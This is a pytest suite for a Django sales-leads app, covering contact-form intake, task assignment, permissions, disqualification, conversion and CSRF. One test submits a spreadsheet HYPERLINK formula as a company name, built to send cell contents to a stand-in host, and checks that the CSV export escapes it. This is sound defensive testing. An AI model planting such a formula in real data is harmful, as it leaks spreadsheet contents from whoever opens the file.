from __future__ import annotations

import datetime as dt
import re
import uuid

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from accounts.models import Activity
from accounts.tests.factories import tam, team_lead
from leads.intake import Lead, intake_task
from leads.models import (
    Opportunity,
    Task,
    TaskEvent,
    TaskSource,
    TaskStatus,
    TrackerRole,
)
from leads.tests.factories import TaskFactory, member, teammate, territory
from revopsweb.tests.csv_reading import export_rows

pytestmark = pytest.mark.django_db

CONTACT = {
    "name": "Ada Lovelace",
    "email": "ada@analytical.example.de",
    "company": "Analytical Engines",
    "domain": "",
    "role": "engineering",
    "country": "DE",
    "monthly_active_users": "12000",
    "message": "We need product analytics for 40 engineers.",
}


def _login(client, user):
    client.force_login(user)
    return user


def test_contact_form_creates_and_assigns_a_task_without_login(client):
    picked = member()

    response = client.post(reverse("leads:contact"), CONTACT)

    assert response.status_code == 302
    task = Task.objects.get()
    assert task.assignee == picked.user
    assert task.source == "contact_form"
    assert task.account.domain == "analytical.example.de"
    assert "12,000" in task.message


def test_contact_form_with_bad_fields_reports_each_and_creates_nothing(client):
    response = client.post(
        reverse("leads:contact"), {**CONTACT, "email": "nope", "country": "Germany"}
    )

    assert response.status_code == 400
    errors = response.context["form"].errors
    assert set(errors) == {"email", "country"}
    assert not Task.objects.exists()


def test_contact_form_over_its_rate_keeps_the_entry_and_creates_nothing(client, settings):
    settings.RATELIMIT_ENABLE = True
    settings.RATELIMIT_CACHE_PREFIX = f"rl-test-{uuid.uuid4().hex}:"
    settings.CONTACT_FORM_RATE = "2/h"
    member()
    for _ in range(2):
        assert client.post(reverse("leads:contact"), CONTACT).status_code == 302

    response = client.post(reverse("leads:contact"), CONTACT)

    assert response.status_code == 429
    assert "Too many messages" in response.content.decode()
    assert response.context["form"]["email"].value() == CONTACT["email"]
    assert Task.objects.count() == 2


def test_new_task_form_records_the_creator(client):
    user = _login(client, tam())
    member()

    client.post(
        reverse("leads:new_task"), {**CONTACT, "source": "manual", "lead_type": "new_business"}
    )

    task = Task.objects.get()
    assert task.created_by == user


def test_a_task_created_for_someone_else_returns_to_the_form_saying_who_has_it(client):
    # A TAM enters a new-business lead: the round robin gives it to a TAE, whose task
    # the TAM may not open (its page answered them 404 after the redirect).
    _login(client, tam())
    tae = member()

    response = client.post(
        reverse("leads:new_task"),
        {**CONTACT, "source": "manual", "lead_type": "new_business"},
        follow=True,
    )

    assert response.redirect_chain == [(reverse("leads:new_task"), 302)]
    assert response.status_code == 200
    assert "Task created" in response.content.decode()
    assert Task.objects.get().assignee == tae.user


def test_a_task_the_creator_may_work_opens_on_its_page(client):
    _login(client, team_lead())
    member()

    response = client.post(
        reverse("leads:new_task"), {**CONTACT, "source": "manual", "lead_type": "new_business"}
    )

    assert response.url == reverse("leads:task", args=[Task.objects.get().pk])


def test_the_new_task_form_preselects_no_source(client):
    # sales/overview, manual entry: "Assign the correct Lead Source from drop down".
    _login(client, tam())
    page = client.get(reverse("leads:new_task")).content.decode()
    select = page.split('name="source"', 1)[1].split("</select>", 1)[0]
    assert re.findall(r'<option value="([^"]*)" selected>', select) == [""]
    assert '<option value="manual">Manual</option>' in select


def test_a_new_task_without_a_source_is_refused_on_the_source(client):
    _login(client, tam())
    member()

    response = client.post(reverse("leads:new_task"), {**CONTACT, "lead_type": "new_business"})

    assert response.status_code == 400
    assert response.context["form"].errors == {"source": ["Choose the lead source."]}
    assert not Task.objects.exists()


def test_the_new_task_form_does_not_offer_the_sources_only_the_jobs_set(client):
    _login(client, tam())

    page = client.get(reverse("leads:new_task")).content.decode()

    select = page.split('name="source"', 1)[1].split("</select>", 1)[0]
    assert 'value="lead_rule"' not in select
    assert 'value="follow_up"' not in select
    assert 'value="sales_email"' in select


@pytest.mark.parametrize("source", ["lead_rule", "follow_up"])
def test_a_posted_system_source_is_refused_on_the_source(client, source):
    _login(client, tam())
    member()

    response = client.post(
        reverse("leads:new_task"), {**CONTACT, "source": source, "lead_type": "new_business"}
    )

    assert response.status_code == 400
    (message,) = response.context["form"].errors["source"]
    assert "is set only by the system" in message
    assert not Task.objects.exists()


def _assigned_tasks(user, n):
    for _ in range(n):
        TaskFactory.create(assignee=user, explanation="round robin")


def test_my_tasks_shows_my_open_tasks_oldest_first_in_constant_queries(
    client, django_assert_num_queries
):
    user = _login(client, tam())
    old = TaskFactory.create(assignee=user, created_at=timezone.now() - dt.timedelta(days=3))
    TaskFactory.create(assignee=user)
    TaskFactory.create(assignee=user, status=TaskStatus.CONVERTED)
    TaskFactory.create(assignee=tam())

    response = client.get(reverse("leads:my_tasks"))

    tasks = response.context["tasks"]
    assert [t.pk for t in tasks][0] == old.pk
    assert len(tasks) == 2
    # session, user with their groups (nav), tasks
    _assigned_tasks(user, 3)
    with django_assert_num_queries(3):
        client.get(reverse("leads:my_tasks"))
    _assigned_tasks(user, 30)
    with django_assert_num_queries(3):
        client.get(reverse("leads:my_tasks"))


def test_team_view_is_refused_to_a_tam(client):
    _login(client, tam())

    assert client.get(reverse("leads:team_tasks")).status_code == 403


def test_team_view_filters_by_territory_status_assignee_and_source(
    client, django_assert_num_queries
):
    _login(client, team_lead())
    person = member().user
    wanted = TaskFactory.create(assignee=person, source="sales_email")
    TaskFactory.create(assignee=person, source="contact_form")
    TaskFactory.create(assignee=person, source="sales_email", status="nurturing")
    TaskFactory.create(source="sales_email")
    elsewhere = TaskFactory.create(assignee=person, source="sales_email")
    Task.objects.filter(pk=elsewhere.pk).update(territory=territory("us-west"))

    response = client.get(
        reverse("leads:team_tasks"),
        {
            "territory": territory().pk,
            "status": "new",
            "assignee": person.pk,
            "source": "sales_email",
        },
    )
    assert [t.pk for t in response.context["tasks"]] == [wanted.pk]

    # session, user with their groups (nav), territory and assignee choices, tasks
    for _ in range(3):
        TaskFactory.create()
    with django_assert_num_queries(5):
        client.get(reverse("leads:team_tasks"), {"status": "new"})
    for _ in range(30):
        TaskFactory.create()
    with django_assert_num_queries(5):
        client.get(reverse("leads:team_tasks"), {"status": "new"})


def test_another_persons_task_is_not_found(client):
    _login(client, tam())
    task = TaskFactory.create(assignee=tam())

    assert client.get(reverse("leads:task", args=[task.pk])).status_code == 404
    response = client.post(
        reverse("leads:task_touch", args=[task.pk]), {"kind": "note", "note": "x"}
    )
    assert response.status_code == 404


def test_task_page_shows_explanation_and_score_breakdown(client):
    user = _login(client, tam())
    task = TaskFactory.create(
        assignee=user,
        explanation="round robin, Europe & Africa, TAE: load 3 × 1 lowest of 2 active",
        score=30,
        score_breakdown={"employee_count": 10, "country": 10, "role": 10},
    )

    body = client.get(reverse("leads:task", args=[task.pk])).content.decode()

    assert "load 3 × 1 lowest of 2 active" in body
    assert "30 / 70" in body


def test_task_page_shows_the_pool_and_counts_the_members_outside_it(client):
    picked = member(leads_this_month=3)
    passed = member(leads_this_month=5)
    member(role=TrackerRole.TAM)
    member(role=TrackerRole.TAM)
    member(territories=[territory("us-west")])
    _login(client, picked.user)
    result = intake_task(
        lead=Lead(name="Ada", email="ada@pool.example.de", company="Pool", country="DE"),
        source=TaskSource.CONTACT_FORM,
    )

    body = client.get(reverse("leads:task", args=[result.task.pk])).content.decode()

    rows = re.findall(r"<tr><td>(.*?)</tr>", re.sub(r">\s+<", "><", body), re.S)
    assert f'{picked.user.name}</td><td class="num">3</td><td>chosen: lowest load</td>' in rows
    assert (
        f'{passed.user.name}</td><td class="num">5</td><td>passed over: higher load (5 vs 3)</td>'
        in rows
    )
    assert '2 members</td><td class="num"></td><td>passed over: wrong role (TAM)</td>' in rows
    assert '1 member</td><td class="num"></td><td>passed over: not in this territory</td>' in rows


def test_touching_a_task_updates_its_last_touched_time_and_history(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user, last_touched_at=timezone.now() - dt.timedelta(days=9))

    response = client.post(
        reverse("leads:task_touch", args=[task.pk]), {"kind": "call", "note": "Intro call booked"}
    )

    assert response.status_code == 302
    task.refresh_from_db()
    assert task.last_touched_at is not None
    assert timezone.now() - task.last_touched_at < dt.timedelta(minutes=1)
    assert TaskEvent.objects.get(task=task, kind="call").actor == user
    assert Activity.objects.get(account=task.account).kind == "call"


def test_status_change_through_htmx_returns_the_task_partial(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    response = client.post(
        reverse("leads:task_touch", args=[task.pk]),
        {"kind": "status", "status": "nurturing"},
        headers={"HX-Request": "true"},
    )

    body = response.content.decode()
    assert body.lstrip().startswith('<div id="task-work"')
    assert "<html" not in body
    task.refresh_from_db()
    assert task.status == "nurturing"


def test_disqualifying_as_other_needs_a_comment(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    response = client.post(reverse("leads:task_disqualify", args=[task.pk]), {"reason": "other"})

    assert response.status_code == 422
    task.refresh_from_db()
    assert task.status == "new"


def test_the_disqualify_form_offers_no_reason_only_the_system_sets(client):
    # sales/overview: a task untouched after its reassignment "will be automatically
    # disqualified with the Stale – Autoclosed reason"; Below Threshold – Auto is one
    # a person marks ("mark the task Below Threshold – Auto").
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    page = client.get(reverse("leads:task", args=[task.pk])).content.decode()

    select = page.split('<select name="reason"', 1)[1].split("</select>", 1)[0]
    assert "stale_autoclosed" not in select and "Stale – Autoclosed" not in select
    assert '<option value="below_threshold_auto">' in select
    assert '<option value="no_response_pass">' in select


def test_disqualifying_as_stale_autoclosed_by_hand_is_refused_on_the_reason(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    response = client.post(
        reverse("leads:task_disqualify", args=[task.pk]), {"reason": "stale_autoclosed"}
    )

    assert response.status_code == 422
    assert response.context["disqualify_form"].errors["reason"] == [
        "“Stale – Autoclosed” is set only by the system; choose the reason that best "
        "matches the situation."
    ]
    task.refresh_from_db()
    assert (task.status, task.disqualification_reason) == ("new", "")


def test_disqualifying_records_reason_and_category(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    client.post(reverse("leads:task_disqualify", args=[task.pk]), {"reason": "no_response_pass"})

    task.refresh_from_db()
    assert task.status == "disqualified"
    assert task.disqualification_category == "Unreachable"
    assert "No Response – Pass" in TaskEvent.objects.get(task=task, kind="disqualified").summary


def test_converting_creates_an_opportunity_and_closes_the_task(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    client.post(
        reverse("leads:task_convert", args=[task.pk]),
        {
            "record_type": "new_revenue",
            "type": "annual",
            "amount": "24000.00",
            "close_date": "2026-12-31",
        },
    )

    opportunity = Opportunity.objects.get()
    assert str(opportunity.amount) == "24000.00"
    assert opportunity.owner == user
    task.refresh_from_db()
    assert task.status == "converted"


def test_get_is_refused_on_task_actions(client):
    user = _login(client, tam())
    task = TaskFactory.create(assignee=user)

    assert client.get(reverse("leads:task_touch", args=[task.pk])).status_code == 405


def test_contact_form_page_is_public(client):
    response = client.get(reverse("leads:contact"))

    assert response.status_code == 200
    assert "Work email" in response.content.decode()


def test_plain_form_fallbacks_pass_csrf_checks():
    from django.test import Client

    lead = team_lead()
    target = teammate(lead)
    task = TaskFactory.create(assignee=lead)
    client = Client(enforce_csrf_checks=True)
    client.force_login(lead)

    # The row's form is on the page opened by its "Edit" link (the plain fallback of htmx).
    tracker_page = client.get(
        reverse("leads:tracker"), {"territory": "europe-africa", "edit": str(target.pk)}
    )
    task_page = client.get(reverse("leads:task", args=[task.pk]))
    token = tracker_page.context["csrf_token"]
    prefix = f"m{target.pk}"
    saved = client.post(
        reverse("leads:member_update", args=[target.pk]),
        {
            "csrfmiddlewaretoken": token,
            f"{prefix}-priority": "2",
            f"{prefix}-manual_adjustment": "0",
            f"{prefix}-territories": [territory().pk],
            f"{prefix}-reason": "calibrate",
        },
    )

    assert saved.status_code == 302
    member_form = (
        tracker_page.content.decode().split(f'id="member-form-{target.pk}"')[1].split("</form>")[0]
    )
    assert "csrfmiddlewaretoken" in member_form
    task_work = task_page.content.decode().split('id="task-work"')[1]
    # Touch, disqualify, nurture, convert.
    assert task_work.count('name="csrfmiddlewaretoken"') == 4


def test_a_formula_sent_as_company_through_the_contact_form_is_text_in_my_book_csv(client):
    picked = member()
    company = '=HYPERLINK("http://example.invalid/?x="&A2,"Open")'

    client.post(reverse("leads:contact"), {**CONTACT, "company": company})

    account = Task.objects.get().account
    assert account.owner == picked.user
    client.force_login(picked.user)
    [row] = export_rows(client.get(reverse("accounts:book_export")))
    assert row["name"] == "'" + company


@pytest.mark.parametrize("page", ["leads:my_tasks", "leads:team_tasks"])
def test_task_lists_link_the_account(client, page):
    lead = _login(client, team_lead())
    task = TaskFactory.create(assignee=lead)
    content = client.get(reverse(page)).content.decode()
    account_url = reverse("accounts:account", args=[task.account_id])
    assert f'<a href="{account_url}">{escape(task.account.name)}</a>' in content


def test_the_task_page_links_its_account(client):
    me = _login(client, tam())
    task = TaskFactory.create(assignee=me)
    content = client.get(reverse("leads:task", args=[task.pk])).content.decode()
    assert f'href="{reverse("accounts:account", args=[task.account_id])}"' in content


def test_the_score_breakdown_names_metrics_in_words(client):
    me = _login(client, tam())
    task = TaskFactory.create(
        assignee=me, score=25, score_breakdown={"employee_count": 10, "ability_to_pay": 15}
    )
    content = client.get(reverse("leads:task", args=[task.pk])).content.decode()
    assert "Employee count" in content and "Ability to pay (estimated revenue)" in content
    assert "Employeecount" not in content and "Abilitytopay" not in content


def test_team_view_pages_50_tasks_newest_first_and_keeps_the_filters(client):
    _login(client, team_lead())
    tasks = [TaskFactory.create(source="sales_email") for _ in range(53)]
    TaskFactory.create(source="contact_form")
    first = client.get(reverse("leads:team_tasks"), {"source": "sales_email"})
    second = client.get(reverse("leads:team_tasks"), {"source": "sales_email", "page": 2})
    assert len(first.context["tasks"]) == 50
    assert {t.pk for t in second.context["tasks"]} == {t.pk for t in tasks[:3]}
    body = first.content.decode()
    assert 'href="?source=sales_email&amp;page=2"' in body
    assert "Tasks 51–53" in second.content.decode()
    assert "Older" not in second.content.decode()
